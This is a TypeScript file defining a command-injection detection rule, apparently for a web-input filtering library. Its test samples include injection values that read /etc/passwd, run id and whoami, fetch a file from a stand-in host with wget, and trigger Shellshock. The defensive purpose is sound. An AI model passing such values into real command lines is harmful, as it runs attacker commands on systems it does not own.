import { everyValue, rule, type ValueRule } from 'sallyport/rules'
import { shell, shellNeeds } from 'sallyport/runtime'

/** Command injection: a value that, in a command line, runs a command of its own. */
export const commands: readonly ValueRule[] = [
  rule({
    id: 513_010,
    message: 'Command injection: the value runs a command of its own',
    stops:
      'Commands behind separators, in substitutions and out of quotes, for POSIX shells, cmd.exe and PowerShell; Shellshock.',
    severity: 'critical',
    tags: ['attack-rce', 'capec/88'],
    in: everyValue,
    detect: shell,
    needs: shellNeeds,
    matches: ['; cat /etc/passwd', '$(id)', '| whoami', '`wget http://x.example/a`', '() { :;}; /bin/id'],
    passes: ['Tom & Jerry', 'yes; maybe tomorrow', 'a | b', 'I paid $5 (cash)'],
  }),
]
